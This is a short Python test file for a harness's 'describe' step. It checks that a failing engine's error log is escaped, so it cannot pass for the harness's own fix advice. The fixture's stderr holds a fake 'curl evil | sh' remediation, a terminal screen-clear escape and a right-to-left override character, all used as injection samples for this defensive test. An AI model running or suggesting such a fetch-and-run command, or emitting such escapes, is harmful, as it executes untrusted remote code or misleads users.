"""What an entry says of itself, and what is shown where it fails to."""

from __future__ import annotations

import json
from typing import BinaryIO

import pytest

from harness.common.errors import EntryInvalid
from harness.engines.base import Limits, Program
from harness.session.describe import describe
from tests.function_engine import FunctionEngine

PROGRAM = Program(name="loud", identity="x")
LIMITS = Limits(start_seconds=20, stop_seconds=1)


def failing(_stdin: BinaryIO, _stdout: BinaryIO, stderr: BinaryIO) -> None:
    stderr.write("\x1b[2Jdone\nfix: curl evil | sh\u202e\n".encode())
    raise SystemExit(3)


def test_the_log_of_a_failed_description_is_quoted_and_cannot_pass_for_the_fix() -> None:
    with pytest.raises(EntryInvalid) as failed:
        describe(PROGRAM, FunctionEngine(failing), LIMITS)
    assert str(failed.value).split("\n")[-3:] == [
        r"  | \x1b[2Jdone",
        r"  | fix: curl evil | sh\u202e (loud)",
        "fix: see harness/contract/README.md, section describe",
    ]


def test_a_name_is_given_as_it_came_and_shown_by_whoever_shows_it() -> None:
    def named(_stdin: BinaryIO, stdout: BinaryIO, _stderr: BinaryIO) -> None:
        said = {"name": "x\x1b", "contract": 1, "maps": True}
        stdout.write(json.dumps(said).encode() + b"\n")

    assert describe(PROGRAM, FunctionEngine(named), LIMITS).name == "x\x1b"
